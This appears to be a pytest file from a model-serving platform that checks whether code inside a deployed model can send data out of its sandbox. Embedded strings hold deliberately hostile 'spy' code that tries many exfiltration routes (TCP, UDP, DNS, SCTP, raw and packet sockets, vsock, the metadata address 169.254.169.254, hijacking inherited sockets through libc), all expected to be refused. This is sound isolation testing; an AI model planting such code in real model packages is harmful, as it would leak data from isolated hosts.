"""Proves the threat-model row "code of a served model sends data out": the platform's address is all that it reaches.

A real server, its gateway and a replica of tenant bank; the model's code tries every protocol on a listener of this
machine. One model runs in the replica's own process (torch), the other in the isolated process of a Python function.
"""

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import numpy as np
import pytest

from tests.stories.serving_ground import SMALL, Platform, platform

ATTEMPTS = """
import json, os, socket
def outcome(action):
    try:
        return f"done {action()}"[:200]
    except BaseException as error:
        return f"refused {error!r}"[:200]
def send(target, kind=socket.SOCK_STREAM, protocol=0, family=socket.AF_INET):
    with socket.socket(family, kind, protocol) as outside:
        outside.settimeout(3)
        outside.connect(target)
        outside.send(b"stolen")
        return "sent"
def fast_open(target):
    with socket.socket() as outside:
        outside.setblocking(True)
        outside.sendto(b"stolen", 0x20000000, target)
        return "sent"
def fast_open_message(target):
    with socket.socket() as outside:
        outside.sendmsg([b"stolen"], [], 0x20000000, target)
        return "sent"
def datagram(target):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outside:
        outside.settimeout(3)
        outside.sendto(b"stolen", target)
        return outside.recv(1)
def listen():
    with socket.create_server(("0.0.0.0", 0)) as door:
        door.settimeout(1)
        return door.accept()
def reuse_inherited(target):
    # Disconnects each socket that the process accepted, and connects it elsewhere.
    import ctypes
    libc, unspecified, sent = ctypes.CDLL(None, use_errno=True), (ctypes.c_ushort * 8)(), []
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            copy = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        if copy.family != socket.AF_INET or copy.type != socket.SOCK_STREAM:
            copy.close()
            continue
        try:
            if copy.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                continue  # stopping the listener would end the replica before it could answer
            libc.connect(copy.fileno(), unspecified, 16)
            copy.settimeout(3)
            copy.connect(target)
            copy.send(b"stolen")
            sent.append(number)
        except OSError:
            pass
        copy.close()
    if not sent:
        raise PermissionError("no inherited socket could be connected")
    return sent
def attempt_all(tcp, udp, platform, hosts):
    attempts = {
        "plain": lambda: send(("127.0.0.1", tcp)),
        "mptcp": lambda: send(("127.0.0.1", tcp), protocol=262),
        "fast open": lambda: fast_open(("127.0.0.1", tcp)),
        "fast open by message": lambda: fast_open_message(("127.0.0.1", tcp)),
        "datagram": lambda: datagram(("127.0.0.1", udp)),
        "names": lambda: datagram(("127.0.0.53", 53)),
        "sctp": lambda: send(("127.0.0.1", tcp), protocol=132),
        "raw": lambda: send(("127.0.0.1", 0), socket.SOCK_RAW, 1),
        "packet": lambda: socket.socket(17, socket.SOCK_RAW, 0x300).send(b"stolen"),
        "vsock": lambda: send((2, tcp), family=40),
        "listening": listen,
        "inherited sockets": lambda: reuse_inherited(("127.0.0.1", tcp)),
    }
    for host in hosts:
        attempts[f"{host} at the platform's port"] = lambda host=host: send((host, platform))
        attempts[f"{host} at another port"] = lambda host=host: send((host, tcp))
    return {name: outcome(action) for name, action in attempts.items()} | {"network": os.readlink("/proc/self/ns/net")
        if os.access("/proc/self/ns/net", os.R_OK) else ""}
"""
FUNCTION = """
import numpy as np
from attempts import attempt_all
def spy(inputs, parameters):
    question = json.loads(inputs["ask"].ravel()[0])
    return {"told": np.array([[json.dumps(attempt_all(**question)).encode()]], object)}
"""
MODULE = """
import torch
from attempts import attempt_all
class Spy(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.zeros(1))
    def forward(self, ask):
        question = json.loads(bytes(ask.ravel().tolist()).rstrip())
        answer = json.dumps(attempt_all(**question)).encode().ljust(8192)
        return torch.tensor(list(answer), dtype=torch.uint8).reshape(1, 8192)
"""


class Listener:
    """Listens on TCP and UDP at every address of this machine; `check_silence` fails if anything was sent to it."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("0.0.0.0", 0))  # noqa: S104 - the wall is what is tested
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))  # noqa: S104

    def check_silence(self) -> None:
        for listening in (self.tcp, self.udp):
            listening.setblocking(False)
        with pytest.raises(BlockingIOError):
            self.tcp.accept()
        with pytest.raises(BlockingIOError):
            self.udp.recv(9)

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def bank(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    with platform(tmp_path_factory.mktemp("replica-egress")) as running:
        yield running


@pytest.fixture
def listener() -> Iterator[Listener]:
    opened = Listener()
    yield opened
    opened.close()


def test_function_model_reaches_nothing(bank: Platform, listener: Listener, tmp_path: Path) -> None:
    manifest = {
        "runtime": "python",
        "code": "spy:spy",
        "inputs": [{"name": "ask", "datatype": "BYTES", "shape": [-1, 1]}],
        "outputs": [{"name": "told", "datatype": "BYTES", "shape": [-1, 1]}],
    }
    deploy(bank, tmp_path, "function", manifest, FUNCTION)
    question = json.dumps(questions(bank, listener))
    answer = bank.here.serve.call("endpoint:fraud/function", {"ask": [[question]]}, token=bank.token)
    check_outcomes(json.loads(answer["told"][0][0]), listener)


def test_code_in_the_replica_itself_reaches_nothing(bank: Platform, listener: Listener, tmp_path: Path) -> None:
    manifest = {
        "runtime": "torch",
        "code": "spy:Spy",
        "inputs": [{"name": "ask", "datatype": "UINT8", "shape": [-1, 1024]}],
        "outputs": [{"name": "told", "datatype": "UINT8", "shape": [-1, 8192]}],
    }
    deploy(bank, tmp_path, "module", manifest, MODULE, weighs=True)
    question = json.dumps(questions(bank, listener)).encode().ljust(1024)
    answer = bank.here.serve.call("endpoint:fraud/module", {"ask": [list(question)]}, token=bank.token)
    check_outcomes(json.loads(bytes(answer["told"][0])), listener)


def deploy(bank: Platform, home: Path, name: str, sheet: dict[str, Any], code: str, weighs: bool = False) -> None:
    """Publish the model with its code and serve it."""
    folder, sources = home / "model", home / "code"
    folder.mkdir()
    sources.mkdir()
    (folder / "falaj.json").write_text(json.dumps(sheet))
    if weighs:
        header = json.dumps({"weight": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
        data = len(header).to_bytes(8, "little") + header + np.zeros(1, np.float32).tobytes()
        (folder / "model.safetensors").write_bytes(data)
    (sources / "attempts.py").write_text(ATTEMPTS)
    (sources / "spy.py").write_text(f"import json\n{code}")
    client = bank.here
    source = client.catalog.publish(f"code:fraud/{name}", str(sources)).ref
    model = client.catalog.publish(f"model:fraud/{name}", str(folder)).ref
    endpoint = f"endpoint:fraud/{name}"
    client.serve.deploy(endpoint, model, code=source, wait=True, **SMALL | {"memory": "512MiB"})
    bank.door(endpoint)


def questions(bank: Platform, listener: Listener) -> dict[str, Any]:
    """What the code is asked to try: ports of the listener and the platform, addresses of this machine and others."""
    hosts = ["127.0.0.2", "169.254.169.254", "192.0.2.1", *own_addresses()]
    platform_port = urlsplit(bank.here.address).port
    ports = {"tcp": listener.tcp.getsockname()[1], "udp": listener.udp.getsockname()[1], "platform": platform_port}
    return {**ports, "hosts": hosts}


def own_addresses() -> list[str]:
    """The address of this machine on its network, where it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return []
        return [str(probe.getsockname()[0])]


def check_outcomes(outcomes: dict[str, str], listener: Listener) -> None:
    own = outcomes.pop("network")
    assert own != str(Path("/proc/self/ns/net").readlink())
    assert len(outcomes) > 15
    assert {name: text for name, text in outcomes.items() if not text.startswith("refused")} == {}
    listener.check_silence()
